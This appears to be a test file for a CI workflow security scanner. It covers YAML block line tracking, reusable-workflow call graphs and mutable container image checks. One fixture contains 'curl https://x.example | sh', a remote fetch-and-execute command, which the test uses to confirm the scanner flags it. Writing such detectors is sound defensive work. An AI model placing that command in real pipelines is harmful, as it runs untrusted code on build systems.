"""Workflows, composite actions and GitLab pipelines as pipelines."""

from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from undercroft.catalogue import loader
from undercroft.scan.collect.files import tree
from undercroft.scan.collect.files.blocks import block
from undercroft.scan.collect.files.source import Source
from undercroft.scan.pipelines import Calls
from undercroft.scan.run import Observed, Request, scan


def _scan(tmp_path: Path, **files: str) -> Observed:
    folder = tmp_path / ".github" / "workflows"
    folder.mkdir(parents=True)
    for name, text in files.items():
        (folder / f"{name}.yml").write_text(text)
    return scan(Request((str(tmp_path),)), dict(loader.load().components))


def test_a_block_of_code_keeps_the_places_of_its_lines() -> None:
    (document,) = tree.read(Source.of("a.yml", "run: |\n    first\n\n      second\nnext: 1\n"))
    node = document.get("run")
    assert node is not None
    code = block(node)
    assert code.text == "first\n\n  second"
    assert code.places == ((2, 5), (3, 5), (4, 5))


def test_a_command_in_a_step_is_found_at_its_own_line(tmp_path: Path) -> None:
    text = "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          echo a\n          curl https://x.example | sh\n"
    (finding,) = [f for f in _scan(tmp_path, a=text).result.findings if f.check == "curl-pipe-shell"]
    assert finding.evidence[0].where == ".github/workflows/a.yml:9:11"


def test_events_are_followed_through_calls(tmp_path: Path) -> None:
    called = "on: workflow_call\njobs:\n  a:\n    runs-on: x\n    steps: [{run: make}]\n"
    middle = "on: workflow_call\njobs:\n  b:\n    uses: ./.github/workflows/a.yml\n"
    outer = "on: [issues, push]\njobs:\n  c:\n    uses: ./.github/workflows/b.yml\n"
    graph = _scan(tmp_path, a=called, b=middle, c=outer).graph
    pipeline = next(p for p in graph.pipelines if p.path.endswith("a.yml"))
    assert {e.event for e in Calls.of(graph.pipelines).entries(pipeline)} == {"issues", "push"}


def test_pipelines_that_call_each_other_in_a_ring_end(tmp_path: Path) -> None:
    ring = "on: [push, workflow_call]\njobs:\n  a:\n    uses: ./.github/workflows/NEXT.yml\n"
    graph = _scan(tmp_path, a=ring.replace("NEXT", "b"), b=ring.replace("NEXT", "a")).graph
    assert len(Calls.of(graph.pipelines).entries(graph.pipelines[0])) == 2


def test_the_image_of_a_job_is_judged(tmp_path: Path) -> None:
    text = "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: x\n    container: docker://dvcorg/cml:latest\n    steps: [{run: make}]\n"
    assert "mutable-image" in {f.check for f in _scan(tmp_path, a=text).result.findings}


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet="ab:-|> \n'\"#{}[]$", max_size=120))
def test_any_scalar_gives_a_block_whose_lines_have_places(text: str) -> None:
    try:
        documents = tree.read(Source.of("a.yml", f"run: {text}\n"))
    except tree.Unreadable:
        return
    for document in documents:
        node = document.get("run")
        if node is not None and node.scalar is not None:
            code = block(node)
            assert len(code.places) >= code.text.count("\n")
